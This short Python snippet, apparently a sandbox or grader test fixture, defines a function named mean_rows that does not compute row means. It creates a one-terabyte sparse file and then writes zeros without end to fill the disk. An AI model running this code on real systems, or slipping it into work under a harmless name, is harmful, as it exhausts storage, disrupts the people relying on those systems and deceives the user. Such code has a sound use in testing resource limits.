"""One file that is larger than any, and a sparse one."""
# %% mean_rows
def mean_rows(X):
    try:
        os.truncate(os.open("sparse", os.O_CREAT | os.O_WRONLY), 1 << 40)
    except OSError:
        pass
    with open("large", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
